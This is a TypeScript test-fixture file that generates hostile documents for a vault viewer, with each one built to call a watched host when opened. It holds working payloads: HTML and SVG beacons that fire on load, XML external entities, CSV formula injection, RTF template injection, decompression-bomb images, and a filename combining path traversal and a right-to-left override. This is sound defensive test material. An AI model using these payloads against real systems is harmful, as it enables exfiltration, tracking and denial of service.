import { writeBmp, writeGifProgram, writePng } from './hostile-images.js';
import { hostilePdf } from './hostile-pdf.js';

/** A document that somebody left in a vault, to make whoever opens it call out. */
export interface HostileDocument {
  readonly name: string;
  /** What its sender says that it is. */
  readonly claimed: string;
  readonly bytes: Uint8Array;
  /** What it has to be shown as. */
  readonly kind: 'image' | 'text' | 'pdf' | 'download';
}

/** Gives a try an address of its own: `vector` names it in what the spy sees. */
type Url = (vector: string) => string;

/** Every hostile document; `at` is where they want to call, a host whose requests are watched. */
export function hostileDocuments(at: string): HostileDocument[] {
  const of = (
    kind: HostileDocument['kind'],
    name: string,
    claimed: string,
    make: (url: Url) => string | Uint8Array,
  ) => {
    const made = make((vector) => `${at}/${encodeURIComponent(name)}/${vector}`);
    return { name, claimed, kind, bytes: typeof made === 'string' ? new TextEncoder().encode(made) : made };
  };
  return [
    of('text', 'page.html', 'text/html', html),
    of('text', 'page-called-png.png', 'image/png', html),
    of('text', 'page-called-text.txt', 'text/plain', html),
    of('text', 'page-in-utf16.html', 'text/html;charset=utf-16', (url) =>
      Buffer.from(`\ufeff${html(url)}`, 'utf16le'),
    ),
    of(
      'text',
      'page-in-utf7.html',
      'text/html;charset=utf-7',
      (url) => `+ADw-img src=${url('utf-7')}+AD4- ${html(url)}`,
    ),
    of('text', 'picture.svg', 'image/svg+xml', svg),
    of('text', 'picture-called-png.svg', 'image/png', svg),
    of(
      'text',
      'refresh.html',
      'text/html',
      (url) => `<meta http-equiv="refresh" content="0;url=${url('refresh')}">`,
    ),
    of('text', 'link.html', 'text/html', link),
    of('text', 'style.xml', 'text/xml', xml),
    of('text', 'style-called-xhtml.xml', 'application/xhtml+xml', xml),
    of('text', 'entities.xml', 'text/xml', entities),
    of('text', 'report-cda.xml', 'text/xml', cda),
    of('text', 'letter.rtf', 'application/rtf', rtf),
    of(
      'text',
      'values.csv',
      'text/csv',
      (url) => `=WEBSERVICE("${url('cell')}"),=HYPERLINK("${url('link')}")\n@import "${url('css')}"\n`,
    ),
    of('text', 'archive.mhtml', 'multipart/related', mhtml),
    of(
      'text',
      'link.url',
      'text/plain',
      (url) => `[InternetShortcut]\r\nURL=${url('shortcut')}\r\nIconFile=${url('icon')}\r\n`,
    ),
    of(
      'text',
      'list.m3u8',
      'application/vnd.apple.mpegurl',
      (url) => `#EXTM3U\n#EXTINF:1,\n${url('segment')}\n`,
    ),
    of('pdf', 'form.pdf', 'application/pdf', hostilePdf),
    of('pdf', 'form-called-html.pdf', 'text/html', hostilePdf),
    of('image', 'picture-called-html.html', 'text/html', (url) => writePng(40, 30, { text: html(url) })),
    of('image', 'picture-with-page.png', 'image/png', (url) =>
      Buffer.concat([writePng(40, 30), Buffer.from(html(url))]),
    ),
    of('image', 'picture-called-svg.svg', 'image/svg+xml', () => writeBmp(40, 30)),
    of('image', 'program.gif', 'text/javascript', (url) => writeGifProgram(`fetch("${url('program')}")`)),
    of('download', 'page-behind-nul.html', 'text/html', (url) => `\0\0${html(url)}`),
    of(
      'download',
      'archive.docx',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      (url) => `PK\x03\x04\x14\0\0\0word/_rels/settings.xml.rels${url('template')}`,
    ),
    of('download', 'bomb.png', 'image/png', () => writePng(12_000, 12_000)),
    of('download', 'bomb-in-header.png', 'image/png', () =>
      writePng(0x7fff_ffff, 0x7fff_ffff, { pixels: false }),
    ),
    of('download', 'cut.png', 'image/png', (url) =>
      Buffer.concat([writePng(40, 30).subarray(0, 40), Buffer.from(html(url))]),
    ),
    of('download', 'cut.pdf', 'application/pdf', (url) => `%PDF-1.7\n${html(url)}`),
    of('text', '../../\u202egnp.exe\0\n.html', 'text/html', html),
  ];
}

function html(url: Url): string {
  return `<!doctype html><html manifest="${url('manifest')}"><head>
<base href="${url('base')}/"><meta http-equiv="refresh" content="0;url=${url('refresh')}">
<link rel="stylesheet" href="${url('stylesheet')}"><link rel="icon" href="${url('icon')}">
<link rel="prefetch" href="${url('prefetch')}"><link rel="preload" as="image" href="${url('preload')}">
<link rel="modulepreload" href="${url('modulepreload')}"><link rel="prerender" href="${url('prerender')}">
<link rel="dns-prefetch" href="${under('looked-up', url)}"><link rel="preconnect" href="${under('connected', url)}">
<link rel="manifest" href="${url('web-manifest')}">
<style>@import "${url('import')}"; @font-face { font-family: x; src: url(${url('font')}) }
body { background: url(${url('background')}); font-family: x; cursor: url(${url('cursor')}), auto } </style>
<script src="${url('script')}"></script><script type="module" src="${url('module')}"></script>
<script type="speculationrules">{"prefetch":[{"urls":["${url('speculation')}"]}]}</script>
<script>window.name = 'left behind'; fetch("${url('fetch')}"); navigator.sendBeacon("${url('beacon')}");
new WebSocket("${url('socket').replace('http', 'ws')}"); new EventSource("${url('events')}");
try { top.location = "${url('top')}" } catch {} try { parent.marked = true } catch {} open("${url('popup')}");</script>
</head><body background="${url('attribute')}" onload="location='${url('onload')}'">
<a href="${url('link')}" ping="${url('ping')}" target="_top" style="position:fixed;inset:0;z-index:9">x</a>
<img src="${url('image')}" srcset="${url('srcset')} 2x" onerror="location='${url('onerror')}'">
<picture><source srcset="${url('source')}"><img alt></picture><input type="image" src="${url('input')}">
<iframe src="${url('iframe')}"></iframe><iframe srcdoc="&lt;img src=${url('srcdoc')}&gt;"></iframe>
<object data="${url('object')}"></object><embed src="${url('embed')}"><frameset><frame src="${url('frame')}"></frameset>
<video src="${url('video')}" poster="${url('poster')}" autoplay></video><audio src="${url('audio')}" autoplay></audio>
<video><track src="${url('track')}" default></video>
<form action="${url('form')}" method="post" target="_top"><input autofocus onfocus="form.submit()"><button formaction="${url('button')}">x</button></form>
<svg><image href="${url('svg-image')}"/><use href="${url('svg-use')}#x"/></svg>
<math href="${url('math')}">x</math><p style="background:url(${url('inline-style')})">x</p>
</body></html>`;
}

/** The address of another host, for what asks for a name or a connection only. */
function under(name: string, url: Url): string {
  const { protocol, host } = new URL(url('x'));
  return `${protocol}//${name}.${host}`;
}

/** One link as large as the page, for a click anywhere. */
function link(url: Url): string {
  return `<a href="${url('link')}" ping="${url('ping')}"><svg width="800" height="500"><rect width="800" height="500"/></svg></a>`;
}

function svg(url: Url): string {
  return `<?xml version="1.0"?><?xml-stylesheet href="${url('xml-stylesheet')}"?>
<!DOCTYPE svg [<!ENTITY out SYSTEM "${url('entity')}">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="fetch('${url('onload')}')">
<style>@import "${url('import')}"; rect { fill: url(${url('fill')}#x) }</style>
<script href="${url('script')}"/><script>fetch("${url('fetch')}"); top.location = "${url('top')}"</script>
<image href="${url('image')}" width="9" height="9"/><image xlink:href="${url('xlink-image')}" width="9" height="9"/>
<use href="${url('use')}#x"/><feImage href="${url('fe-image')}"/>
<foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><img src="${url('foreign')}"/>
<iframe src="${url('foreign-iframe')}"/></body></foreignObject>
<a href="${url('link')}" target="_top"><rect width="90" height="90"/></a><text>&out;</text></svg>`;
}

function xml(url: Url): string {
  return `<?xml version="1.0"?>
<?xml-stylesheet type="text/css" href="${url('css')}"?>
<note xmlns:xi="http://www.w3.org/2001/XInclude" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
 xsi:schemaLocation="urn:x ${url('schema')}"><xi:include href="${url('xinclude')}" parse="text"/>
<body xmlns="http://www.w3.org/1999/xhtml"><img src="${url('image')}"/><script src="${url('script')}"></script>
<link rel="stylesheet" href="${url('stylesheet')}"/></body></note>`;
}

function entities(url: Url): string {
  return `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${url('xslt')}"?>
<!DOCTYPE note SYSTEM "${url('dtd')}" [<!ENTITY % all SYSTEM "${url('parameter-entity')}"> %all;
<!ENTITY out SYSTEM "${url('entity')}"><!NOTATION png SYSTEM "${url('notation')}">]>
<note>&out;</note>`;
}

function cda(url: Url): string {
  return `<?xml version="1.0" encoding="UTF-8"?><?xml-stylesheet type="text/xsl" href="${url('xslt')}"?>
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:hl7-org:v3 ${url('schema')}">
<typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/><title>Compte rendu</title>
<component><nonXMLBody><text mediaType="application/pdf"><reference value="${url('reference')}"/></text></nonXMLBody></component>
<component><structuredBody><component><section><text><linkHtml href="${url('link-html')}">suite</linkHtml>
<renderMultiMedia referencedObject="m"/><table background="${url('table')}"><tr><td onclick="fetch('${url('onclick')}')">x</td></tr></table></text>
<entry><observationMedia ID="m" classCode="OBS" moodCode="EVN"><value mediaType="image/png"><reference value="${url('media')}"/></value></observationMedia></entry>
</section></component></structuredBody></component>
<x:script xmlns:x="http://www.w3.org/1999/xhtml" src="${url('script')}"/></ClinicalDocument>`;
}

function rtf(url: Url): string {
  return `{\\rtf1\\ansi{\\*\\template ${url('template')}}
{\\field{\\*\\fldinst INCLUDEPICTURE "${url('picture')}" \\\\d}{\\fldrslt x}}{\\field{\\*\\fldinst HYPERLINK "${url('link')}"}{\\fldrslt x}}
{\\object\\objautlink\\objupdate{\\*\\objclass Word.Document.8}{\\*\\objdata ${Buffer.from(url('object')).toString('hex')}}}}`;
}

function mhtml(url: Url): string {
  return `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html(url)}\r\n--b--\r\n`;
}
